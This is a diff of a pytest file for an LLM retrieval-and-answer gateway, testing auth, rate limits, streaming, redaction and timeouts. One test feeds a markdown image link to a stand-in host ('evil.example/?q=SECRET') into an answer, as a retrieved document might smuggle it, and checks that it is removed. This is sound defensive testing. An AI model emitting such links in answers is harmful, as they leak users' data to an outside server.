@@ -1,9 +1,10 @@
+"""The handlers and the middleware over a fake backend: answers, streams, access, limits and errors."""
+
 import asyncio
 import contextlib
 import itertools
 import json
 import logging
-from collections.abc import Callable, Coroutine
 from pathlib import Path
 from typing import Any
 
@@ -19,15 +20,14 @@ from ragtune_ray.serving.middleware import check_exposure
 from ragtune_ray.serving.requests import ApiError
 from tests.support.gateways import PASSAGES, SECRETS, FakeBackend, bearer, client, keys, question
 
+pytestmark = pytest.mark.anyio
+
 CHAT = "/v1/chat/completions"
 
 
-def run(test: Callable[[], Coroutine[Any, Any, None]]) -> Callable[[], None]:
-    def wrapped() -> None:
-        asyncio.run(test())
-
-    wrapped.__name__ = test.__name__
-    return wrapped
+@pytest.fixture
+def anyio_backend() -> str:
+    return "asyncio"
 
 
 def events(text: str) -> list[Any]:
@@ -45,58 +45,50 @@ def calibrated(tmp_path: Path) -> config.Config:
 
 @pytest.mark.parametrize("stream", [False, True])
 @pytest.mark.parametrize(("confidence", "retrieved"), [(0.6, False), (0.59, True)])
-def test_auto_retrieves_only_where_the_generator_is_not_sure_enough(
+async def test_auto_retrieves_only_if_the_generator_is_not_confident(
     calibrated: config.Config, confidence: float, retrieved: bool, stream: bool
 ) -> None:
-    async def test() -> None:
-        backend = FakeBackend()
-        backend.confidence = confidence
-        async with client(f"workspace={calibrated.workspace}", backend=backend) as http:
-            reply = await http.post(CHAT, json=question(retrieval="auto", stream=stream))
-            assert reply.status_code == 200, reply.text
-            told = events(reply.text)[-2] if stream else reply.json()
-            first = events(reply.text)[0] if stream else reply.json()
-            assert told["retrieved"] is retrieved
-            assert told["index_version"] == ("000007" if retrieved else "")
-            assert len(first["sources"]) == (3 if retrieved else 0)
-            jobs = [asked[1] for asked in backend.asked if asked[0] in ("complete", "stream")]
-            assert [job.closed_book for job in jobs] == ([True, False] if retrieved else [True])
-            text = (
-                "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in events(reply.text)[:-1])
-                if stream
-                else told["choices"][0]["message"]["content"]
-            )
-            assert text.startswith("It is secret0")
-            assert [name for name, *_ in backend.asked].count("retrieve") == int(retrieved)
-            counted = (await http.get("/metrics")).text
-            assert f'ragtune_adaptive_total{{path="{"retrieved" if retrieved else "closed_book"}"}} 1.0' in counted
-
-    asyncio.run(test())
+    backend = FakeBackend()
+    backend.confidence = confidence
+    async with client(f"workspace={calibrated.workspace}", backend=backend) as http:
+        reply = await http.post(CHAT, json=question(retrieval="auto", stream=stream))
+        assert reply.status_code == 200, reply.text
+        last = events(reply.text)[-2] if stream else reply.json()
+        first = events(reply.text)[0] if stream else reply.json()
+        assert last["retrieved"] is retrieved
+        assert last["index_version"] == ("000007" if retrieved else "")
+        assert len(first["sources"]) == (3 if retrieved else 0)
+        jobs = [asked[1] for asked in backend.asked if asked[0] in ("complete", "stream")]
+        assert [job.closed_book for job in jobs] == ([True, False] if retrieved else [True])
+        text = (
+            "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in events(reply.text)[:-1])
+            if stream
+            else last["choices"][0]["message"]["content"]
+        )
+        assert text.startswith("It is secret0")
+        assert [name for name, *_ in backend.asked].count("retrieve") == int(retrieved)
+        counted = (await http.get("/metrics")).text
+        assert f'ragtune_adaptive_total{{path="{"retrieved" if retrieved else "closed_book"}"}} 1.0' in counted
 
 
-def test_auto_is_the_configs_choice_and_a_request_may_still_want_passages(calibrated: config.Config) -> None:
-    async def test() -> None:
-        backend = FakeBackend()
-        backend.confidence = 1.0
-        async with client(f"workspace={calibrated.workspace}", "serve.retrieval=auto", backend=backend) as http:
-            assert (await http.post(CHAT, json=question())).json()["retrieved"] is False
-            assert (await http.post(CHAT, json=question(retrieval="always"))).json()["retrieved"] is True
-            assert (await http.post(CHAT, json=question(model="base"))).json()["retrieved"] is False
-            refused = await http.post(CHAT, json=question(model="base", retrieval="auto"))
-            assert (refused.status_code, refused.json()["error"]["code"]) == (409, "not_calibrated")
-
-    asyncio.run(test())
+async def test_a_request_can_override_auto_retrieval_of_the_config(calibrated: config.Config) -> None:
+    backend = FakeBackend()
+    backend.confidence = 1.0
+    async with client(f"workspace={calibrated.workspace}", "serve.retrieval=auto", backend=backend) as http:
+        assert (await http.post(CHAT, json=question())).json()["retrieved"] is False
+        assert (await http.post(CHAT, json=question(retrieval="always"))).json()["retrieved"] is True
+        assert (await http.post(CHAT, json=question(model="base"))).json()["retrieved"] is False
+        refused = await http.post(CHAT, json=question(model="base", retrieval="auto"))
+        assert (refused.status_code, refused.json()["error"]["code"]) == (409, "not_calibrated")
 
 
-@run
-async def test_auto_is_refused_where_nothing_was_calibrated() -> None:
+async def test_auto_without_a_calibration_is_refused() -> None:
     async with client() as http:
         refused = await http.post(CHAT, json=question(retrieval="auto"))
         assert (refused.status_code, refused.json()["error"]["code"]) == (409, "not_calibrated")
 
 
-@run
-async def test_a_stream_says_what_the_plain_answer_says_and_sends_its_sources_first() -> None:
+async def test_a_stream_sends_sources_first_and_equals_the_plain_answer() -> None:
     async with client() as http:
         plain = (await http.post(CHAT, json=question())).json()
         reply = await http.post(CHAT, json=question(stream=True, stream_options={"include_usage": True}))
@@ -126,8 +118,7 @@ async def test_a_stream_says_what_the_plain_answer_says_and_sends_its_sources_fi
         } == set(last["timings"])
 
 
-@run
-async def test_what_a_request_asks_for_reaches_the_generator_and_the_config_fills_the_rest() -> None:
+async def test_request_fields_reach_the_generator_with_defaults_from_config() -> None:
     async with client("generator.stop=[END]", "seed=5") as http:
         wanted = {"max_tokens": 9, "temperature": 0.5, "stop": ["X"], "seed": 3, "top_k": 2, "model": "rag"}
         await http.post(CHAT, json=question(**wanted))
@@ -139,16 +130,15 @@ async def test_what_a_request_asks_for_reaches_the_generator_and_the_config_fill
         assert (base.arm, base.passages, base.index_version, base.seed, base.stop) == ("base", (), "", 5, ("END",))
 
 
-@run
-async def test_an_error_before_the_first_event_has_its_status_and_one_after_it_is_an_event() -> None:
+async def test_an_early_error_sets_the_status_and_a_late_one_is_an_event() -> None:
     backend = FakeBackend()
-    backend.failure = Failed(503, "no copy", "unavailable", 3.0)
+    backend.failure = Failed(503, "no replica", "unavailable", 3.0)
     async with client(backend=backend) as http:
         for body in (question(), question(stream=True)):
             reply = await http.post(CHAT, json=body)
             assert (reply.status_code, reply.headers["retry-after"]) == (503, "3")
             assert reply.json()["error"] == {
-                "message": "no copy",
+                "message": "no replica",
                 "type": "server_error",
                 "param": None,
                 "code": "unavailable",
@@ -160,8 +150,7 @@ async def test_an_error_before_the_first_event_has_its_status_and_one_after_it_i
         assert "[DONE]" not in reply.text
 
 
-@run
-async def test_a_deadline_ends_a_plain_answer_with_504_and_a_stream_with_an_event_and_stops_the_work() -> None:
+async def test_a_missed_deadline_stops_the_work_with_504_or_an_event() -> None:
     backend = FakeBackend()
     backend.gate = asyncio.Event()
     async with client(backend=backend) as http:
@@ -172,8 +161,7 @@ async def test_a_deadline_ends_a_plain_answer_with_504_and_a_stream_with_an_even
         assert backend.closed == 1
 
 
-@run
-async def test_too_much_at_once_is_refused_with_429_before_anything_is_retrieved() -> None:
+async def test_overload_is_refused_with_429_before_retrieval() -> None:
     backend = FakeBackend()
     backend.gate = asyncio.Event()
     limits = ["serve.generator.max_ongoing_requests=2", "serve.generator.max_queued_requests=1"]
@@ -187,14 +175,13 @@ async def test_too_much_at_once_is_refused_with_429_before_anything_is_retrieved
         assert len(backend.asked) == 6
         backend.gate.set()
         assert [reply.status_code for reply in await asyncio.gather(*running)] == [200] * 3
-        assert (await http.post(CHAT, json=question())).status_code == 200, "every place was given back"
-        assert http.keeper.in_flight == 0
+        assert (await http.post(CHAT, json=question())).status_code == 200, "every slot was released"
+        assert http.middleware.in_flight == 0
 
 
-@run
-async def test_while_it_is_stopped_new_requests_get_503_and_probes_say_so() -> None:
+async def test_a_draining_endpoint_refuses_requests_and_is_not_ready() -> None:
     async with client() as http:
-        http.keeper.draining = True
+        http.middleware.draining = True
         reply = await http.post(CHAT, json=question())
         assert (reply.status_code, reply.json()["error"]["code"]) == (503, "draining")
         assert reply.headers["retry-after"]
@@ -202,12 +189,11 @@ async def test_while_it_is_stopped_new_requests_get_503_and_probes_say_so() -> N
         assert (await http.get("/healthz")).status_code == 200
 
 
-@run
-async def test_every_route_has_a_policy_and_keeps_it() -> None:
+async def test_every_route_has_a_policy_and_enforces_it() -> None:
     async with client(keys=keys()) as http:
-        app = http.keeper.app
+        app = http.middleware.app
         found = {(method, route.path) for route in app.routes for method in route.methods - {"HEAD"}}
-        assert found == set(http.keeper.routes), "a route without a policy"
+        assert found == set(http.middleware.routes), "a route without a policy"
         presented = {
             "none": {},
             "wrong": {"Authorization": "Bearer wrong-key-0123456789"},
@@ -216,7 +202,7 @@ async def test_every_route_has_a_policy_and_keeps_it() -> None:
             "admin": bearer("admin"),
         }
         for (method, path), (name, headers) in itertools.product(sorted(found), presented.items()):
-            right = http.keeper.routes[method, path].right
+            right = http.middleware.routes[method, path].right
             reply = await http.request(method, path, headers=headers, json={})
             allowed = right == "public" or name == "admin" or (right == "key" and name == "user")
             expected = 403 if right == "admin" and name == "user" else 401
@@ -225,8 +211,8 @@ async def test_every_route_has_a_policy_and_keeps_it() -> None:
                 path,
                 name,
             )
-        assert not http.backend.asked, "an empty body reaches nothing"
-        rights = {place: route.right for place, route in http.keeper.routes.items()}
+        assert not http.backend.asked, "an empty body never reaches the backend"
+        rights = {place: route.right for place, route in http.middleware.routes.items()}
         assert {place for place, right in rights.items() if right == "public"} == {
             ("GET", path)
             for path in ("/", "/page/style.css", "/page/script.js", "/healthz", "/readyz", "/version", "/openapi.json")
@@ -236,8 +222,7 @@ async def test_every_route_has_a_policy_and_keeps_it() -> None:
         )
 
 
-@run
-async def test_a_key_is_asked_for_before_the_body_is_read() -> None:
+async def test_the_key_is_checked_before_the_body_is_read() -> None:
     async def endless():
         yield b"{"
         raise AssertionError("the body was read")
@@ -257,18 +242,15 @@ async def test_a_key_is_asked_for_before_the_body_is_read() -> None:
         ("", {}),
     ],
 )
-def test_without_keys_only_this_machine_by_its_own_name_is_served(address: str, headers: dict[str, str]) -> None:
-    async def check() -> None:
-        async with client(address=address) as http:
-            for path in ("/", "/v1/models", "/openapi.json"):
-                assert (await http.get(path, headers=headers)).status_code == 403
-        async with client() as http:
-            assert (await http.get("/v1/models", headers={"host": "localhost:8000"})).status_code == 200
-
-    asyncio.run(check())
+async def test_without_keys_only_requests_from_localhost_are_served(address: str, headers: dict[str, str]) -> None:
+    async with client(address=address) as http:
+        for path in ("/", "/v1/models", "/openapi.json"):
+            assert (await http.get(path, headers=headers)).status_code == 403
+    async with client() as http:
+        assert (await http.get("/v1/models", headers={"host": "localhost:8000"})).status_code == 200
 
 
-def test_another_host_needs_keys() -> None:
+def test_listening_on_a_public_host_requires_keys() -> None:
     settings = config.Config().using("serve.host=0.0.0.0")
     with pytest.raises(config.ConfigError, match=r"serve\.host '0\.0\.0\.0'.*keys_path"):
         check_exposure(settings, Keys([]))
@@ -276,8 +258,7 @@ def test_another_host_needs_keys() -> None:
     check_exposure(config.Config(), Keys([]))
 
 
-@run
-async def test_bodies_of_another_type_size_or_shape_are_refused() -> None:
+async def test_bodies_of_wrong_type_size_or_shape_are_refused() -> None:
     async with client("serve.max_body_bytes=1000") as http:
 
         async def status(content: Any, **headers: str) -> int:
@@ -300,8 +281,7 @@ async def test_bodies_of_another_type_size_or_shape_are_refused() -> None:
             assert set(reply.json()["error"]) == {"message", "type", "param", "code"}
 
 
-@run
-async def test_documents_go_to_the_backend_and_in_a_house_of_tenants_say_whose_they_are() -> None:
+async def test_documents_reach_the_backend_and_must_name_their_tenant() -> None:
     document = {"document_id": "d9", "text": "New."}
     async with client(keys=keys()) as http:
         reply = await http.post("/v1/documents", json={"documents": [document]}, headers=bearer("admin"))
@@ -314,8 +294,7 @@ async def test_documents_go_to_the_backend_and_in_a_house_of_tenants_say_whose_t
         assert (reply.status_code, reply.json()["error"]["code"]) == (400, "tenant_missing")
 
 
-@run
-async def test_a_request_can_only_narrow_what_its_key_may_see() -> None:
+async def test_a_filter_only_narrows_what_the_key_may_see() -> None:
     async with client(
         "index.tenant_field=owner", "retrieval.filter={year: 2020}", keys=keys(user="a", other="b")
     ) as http:
@@ -336,8 +315,7 @@ async def test_a_request_can_only_narrow_what_its_key_may_see() -> None:
             assert (reply.status_code, reply.json()["error"]["code"]) == (400, "invalid_filter")
 
 
-@run
-async def test_a_rate_and_a_concurrency_of_a_key_do_not_touch_another() -> None:
+async def test_the_rate_limit_of_a_key_does_not_affect_another() -> None:
     slow = Key.model_validate({"name": "slow", "key": SECRETS["user"], "requests_per_minute": 1})
     free = Key.model_validate({"name": "free", "key": SECRETS["other"]})
     async with client(keys=Keys([slow, free])) as http:
@@ -346,27 +324,23 @@ async def test_a_rate_and_a_concurrency_of_a_key_do_not_touch_another() -> None:
         assert (await http.post(CHAT, json=question(), headers=bearer("other"))).status_code == 200
 
 
-def test_neither_questions_nor_keys_nor_paths_reach_the_log_or_an_error(caplog: pytest.LogCaptureFixture) -> None:
+async def test_log_and_errors_contain_no_question_key_or_path(caplog: pytest.LogCaptureFixture) -> None:
     class Broken(FakeBackend):
-        async def retrieve(self, text, top_k, chosen, seconds):
+        async def retrieve(self, text, top_k, visible, seconds):
             raise RuntimeError(f"cannot encode {text!r} with /home/x/model")
 
-    async def check() -> None:
+    with caplog.at_level(logging.DEBUG):
         async with client(backend=Broken(), keys=keys()) as http:
             reply = await http.post(CHAT, json=question("What is my SECRET-QUESTION?"), headers=bearer("user"))
             assert (reply.status_code, reply.json()["error"]["code"]) == (500, "internal_error")
             assert "/home" not in reply.text
-
-    with caplog.at_level(logging.DEBUG):
-        asyncio.run(check())
-    assert "RuntimeError" in caplog.text, "the log says what"
-    assert "test_handlers.py" in caplog.text, "and where"
+    assert "RuntimeError" in caplog.text, "the log names the exception"
+    assert "test_handlers.py" in caplog.text, "and its place"
     for hidden in ("SECRET-QUESTION", SECRETS["user"], "/home/x"):
         assert hidden not in caplog.text
 
 
-@run
-async def test_the_page_may_load_scripts_from_here_alone_and_everything_has_its_headers() -> None:
+async def test_every_response_has_security_headers_and_no_inline_scripts() -> None:
     async with client() as http:
         for path in ("/", "/v1/models", "/nothing"):
             headers = (await http.get(path)).headers
@@ -376,8 +350,7 @@ async def test_the_page_may_load_scripts_from_here_alone_and_everything_has_its_
         assert (await http.get("/page/../../pyproject.toml")).status_code == 404
 
 
-@run
-async def test_metrics_count_by_route_and_hold_no_content() -> None:
+async def test_metrics_count_by_route_and_contain_no_content() -> None:
     async with client() as http:
         await http.post(CHAT, json=question("What is my SECRET-QUESTION?"))
         await http.post("/v1/whatever/SECRET-PATH", json={})
@@ -389,8 +362,7 @@ async def test_metrics_count_by_route_and_hold_no_content() -> None:
         assert "SECRET" not in text
 
 
-@run
-async def test_embeddings_refuse_what_the_encoder_does_not_make() -> None:
+async def test_embeddings_the_encoder_cannot_make_are_refused() -> None:
     async with client() as http:
         ok = await http.post("/v1/embeddings", json={"input": ["a", "b"], "dimensions": 4, "input_type": "passage"})
         assert [row["embedding"][row["index"]] for row in ok.json()["data"]] == [1.0, 1.0]
@@ -399,8 +371,7 @@ async def test_embeddings_refuse_what_the_encoder_does_not_make() -> None:
             assert (await http.post("/v1/embeddings", json={"input": "a"} | wrong)).status_code in (400, 404)
 
 
-@run
-async def test_where_all_is_full_a_request_is_refused_before_its_body_is_read() -> None:
+async def test_a_full_endpoint_refuses_before_reading_the_body() -> None:
     sent: list[dict[str, Any]] = []
 
     async def receive() -> dict[str, Any]:
@@ -410,20 +381,19 @@ async def test_where_all_is_full_a_request_is_refused_before_its_body_is_read() 
         sent.append(message)
 
     async with client() as http:
-        http.gateway.generating.capacity = http.gateway.retrieving.capacity = 0
+        http.handlers.generating.capacity = http.handlers.retrieving.capacity = 0
         headers = [(b"host", b"127.0.0.1"), (b"content-type", b"application/json"), (b"content-length", b"9")]
         scope = {"type": "http", "method": "POST", "headers": headers, "client": ("127.0.0.1", 1)}
         for path in (CHAT, "/v1/retrieve", "/v1/embeddings"):
             sent.clear()
-            await http.keeper({**scope, "path": path}, receive, send)
+            await http.middleware({**scope, "path": path}, receive, send)
             assert sent[0]["status"] == 429
             assert dict(sent[0]["headers"])[b"retry-after"] == b"1"
             assert json.loads(sent[1]["body"])["error"]["code"] == "overloaded"
-        assert http.keeper.in_flight == 0
+        assert http.middleware.in_flight == 0
 
 
-@run
-async def test_links_that_a_document_smuggled_into_an_answer_are_gone() -> None:
+async def test_links_from_a_document_are_removed_from_answers() -> None:
     backend = FakeBackend()
     backend.raw = "It is ![x](https://evil.example/?q=SECRET) secret0 [1]."
     async with client(backend=backend) as http:
@@ -433,8 +403,7 @@ async def test_links_that_a_document_smuggled_into_an_answer_are_gone() -> None:
         assert "evil.example" not in streamed
 
 
-@run
-async def test_retrieval_that_fails_says_so_with_its_own_status() -> None:
+async def test_a_failed_retrieval_keeps_its_own_status() -> None:
     backend = FakeBackend()
     backend.retrieval_error = ApiError(409, "there is no index", code="no_index")
     async with client(backend=backend) as http:
@@ -443,48 +412,47 @@ async def test_retrieval_that_fails_says_so_with_its_own_status() -> None:
     assert PASSAGES
 
 
-def test_what_passes_while_nobody_is_there_is_no_pace(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_idle_time_does_not_count_towards_the_throughput(monkeypatch: pytest.MonkeyPatch) -> None:
     now = [0.0]
     monkeypatch.setattr(admission.time, "monotonic", lambda: now[0])
     load = admission.Load(capacity=80)
-    for _ in range(6):  # two at once for half a second, once a minute
+    for _ in range(6):  # two requests for half a second, once a minute
         now[0] += 60
         pair = [contextlib.ExitStack() for _ in range(2)]
         for each in pair:
-            each.enter_context(load.entered(5))
+            each.enter_context(load.admit(5))
         for each in pair:
             now[0] += 0.25
             each.close()
     with contextlib.ExitStack() as burst:
         for _ in range(16):
-            burst.enter_context(load.entered(60))
-    assert load.seconds_each <= 1
+            burst.enter_context(load.admit(60))
+    assert load.seconds_per_request <= 1
 
 
-def test_a_request_whose_turn_would_come_too_late_is_refused_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_request_that_would_wait_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
     now = [0.0]
     monkeypatch.setattr(admission.time, "monotonic", lambda: now[0])
     load = admission.Load(capacity=100)
     waiting = contextlib.ExitStack()
     ends = [contextlib.ExitStack() for _ in range(10)]
     for each in ends:
-        each.enter_context(load.entered(60))
-    for each in ends[:6]:  # one ends every three seconds
+        each.enter_context(load.admit(60))
+    for each in ends[:6]:  # one completes every three seconds
         now[0] += 3
         each.close()
-    assert load.seconds_each == pytest.approx(3)
-    for _ in range(16):  # twenty are under way then: a minute for the next one
-        waiting.enter_context(load.entered(60))
-    with pytest.raises(ApiError) as raised, load.entered(59):
+    assert load.seconds_per_request == pytest.approx(3)
+    for _ in range(16):  # now twenty are in flight: the next one waits a minute
+        waiting.enter_context(load.admit(60))
+    with pytest.raises(ApiError) as raised, load.admit(59):
         pass
     assert (raised.value.status, raised.value.retry_after_seconds) == (429, 60)
-    with load.entered(61):
+    with load.admit(61):
         pass
     waiting.close()
 
 
-@run
-async def test_what_is_not_ready_in_time_is_a_504_on_every_route() -> None:
+async def test_a_timeout_is_a_504_on_every_route() -> None:
     class Late(FakeBackend):
         async def embed(self, texts, input_type, seconds):
             raise TimeoutError
